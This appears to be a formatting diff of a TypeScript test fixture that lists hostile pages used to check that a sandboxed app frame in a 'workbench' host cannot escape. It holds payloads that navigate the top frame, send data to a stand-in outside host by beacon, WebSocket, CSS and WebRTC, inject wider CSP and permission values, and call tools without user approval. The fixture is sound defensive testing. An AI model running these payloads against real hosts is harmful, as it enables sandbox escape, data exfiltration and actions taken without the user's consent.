@@ -7,15 +7,23 @@ const link = (attributes: string) =>
   staged("document.getElementById('x').click(); await pause(200)", `<a id="x" ${attributes}>x</a>`);
 
 /** Pages that want out. `away` is where a stranger waits for what they send, `plane` where the workbench is. */
-export function hostilePages(away: string, stunPort: number, plane: string): Record<string, HostilePage> {
+export function hostilePages(
+  away: string,
+  stunPort: number,
+  plane: string,
+): Record<string, HostilePage> {
   const socket = away.replace("http", "ws");
   const rtc = `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${stunPort}" }] })`;
   return {
     // Out of the frame.
     top_location: { html: staged(`await attempt("top", () => { top.location = "${away}/a"; })`) },
-    parent_replace: { html: staged(`await attempt("parent", () => parent.location.replace("${away}/a"))`) },
+    parent_replace: {
+      html: staged(`await attempt("parent", () => parent.location.replace("${away}/a"))`),
+    },
     top_script_link: {
-      html: staged(`await attempt("script", () => { top.location = "javascript:document.title='mine'"; })`),
+      html: staged(
+        `await attempt("script", () => { top.location = "javascript:document.title='mine'"; })`,
+      ),
     },
     link_to_top: { html: link(`href="${away}/a" target="_top"`) },
     form_to_top: {
@@ -28,7 +36,10 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
     link_to_window: { html: link(`href="${away}/a" target="_blank" rel="opener"`) },
     goes_elsewhere: { html: staged(`location.href = "${away}/a"`), ends: "closed" },
     goes_to_the_plane: { html: staged(`location.href = "/tools?limit=1"`), ends: "closed" },
-    goes_to_the_workbench: { html: staged(`location.href = "/workbench/settings"`), ends: "closed" },
+    goes_to_the_workbench: {
+      html: staged(`location.href = "/workbench/settings"`),
+      ends: "closed",
+    },
     goes_to_a_wider_policy: {
       html: staged(
         `location.href = "/workbench/app-frame?csp=" + encodeURIComponent('{"connectDomains":["${away}"]}')`,
@@ -36,9 +47,14 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
       ends: "closed",
     },
     reloads: { html: staged("location.reload()"), ends: "closed" },
-    refreshes: { html: `<meta http-equiv="refresh" content="0;url=${away}/a">${staged("")}`, ends: "closed" },
+    refreshes: {
+      html: `<meta http-equiv="refresh" content="0;url=${away}/a">${staged("")}`,
+      ends: "closed",
+    },
     hash_of_top: {
-      html: staged(`location.hash = "#mine"; await attempt("top", () => { top.location.hash = "#pass=mine"; })`),
+      html: staged(
+        `location.hash = "#mine"; await attempt("top", () => { top.location.hash = "#pass=mine"; })`,
+      ),
     },
     goes_back: { html: staged(`history.pushState(1, "", "#x"); history.go(-2); await pause(300)`) },
     // Out by the network.
@@ -61,7 +77,9 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
         `<style>@import "${away}/a"; @font-face { font-family: f; src: url(${away}/b) } body { background: url(${away}/c); font-family: f; cursor: url(${away}/d), auto } li { list-style-image: url(${away}/e) }</style><link rel="stylesheet" href="${away}/f"><li>x`,
       ),
     },
-    beacon: { html: staged(`await attempt("beacon", () => navigator.sendBeacon("${away}/a", "x"))`) },
+    beacon: {
+      html: staged(`await attempt("beacon", () => navigator.sendBeacon("${away}/a", "x"))`),
+    },
     web_socket: {
       html: staged(
         `await attempt("socket", () => new Promise((resolve, reject) => { const one = new WebSocket("${socket}/a"); one.onopen = resolve; one.onerror = reject; }))`,
@@ -182,7 +200,9 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
         await attempt("shared", () => new SharedWorker("${away}/c"))`),
     },
     service_worker: {
-      html: staged(`await attempt("service", () => navigator.serviceWorker.register("${plane}/workbench/boot.js"))`),
+      html: staged(
+        `await attempt("service", () => navigator.serviceWorker.register("${plane}/workbench/boot.js"))`,
+      ),
     },
     // What belongs to the workbench and its person.
     storage: {
@@ -235,7 +255,9 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
       ),
     },
     full_screen: {
-      html: staged(`say(JSON.stringify((await ask("ui/request-display-mode", { mode: "fullscreen" })).result))`),
+      html: staged(
+        `say(JSON.stringify((await ask("ui/request-display-mode", { mode: "fullscreen" })).result))`,
+      ),
     },
     // By detours.
     refers_in_text: {
@@ -275,7 +297,12 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
           frameDomains: [`*; frame-ancestors *; frame-src ${away}`, "javascript:", "about:"],
           baseUriDomains: ["'self'; default-src *"],
         },
-        permissions: { "camera *; microphone": {}, "*": {}, "publickey-credentials-get": {}, "display-capture": {} },
+        permissions: {
+          "camera *; microphone": {},
+          "*": {},
+          "publickey-credentials-get": {},
+          "display-capture": {},
+        },
         domain: plane,
       },
     },
@@ -344,7 +371,9 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
       ),
     },
     call_without_a_yes: {
-      html: staged(`ask("tools/call", { name: "change", arguments: {} }).then(() => 0); await pause(300)`),
+      html: staged(
+        `ask("tools/call", { name: "change", arguments: {} }).then(() => 0); await pause(300)`,
+      ),
     },
     calls_of_others: {
       html: staged(
@@ -375,7 +404,9 @@ export function hostilePages(away: string, stunPort: number, plane: string): Rec
       ),
     },
     floods: {
-      html: staged(`for (let at = 0; at < 20000; at++) tell("notifications/message", { level: "info", data: at })`),
+      html: staged(
+        `for (let at = 0; at < 20000; at++) tell("notifications/message", { level: "info", data: at })`,
+      ),
       ends: "closed",
     },
     floods_calls: {
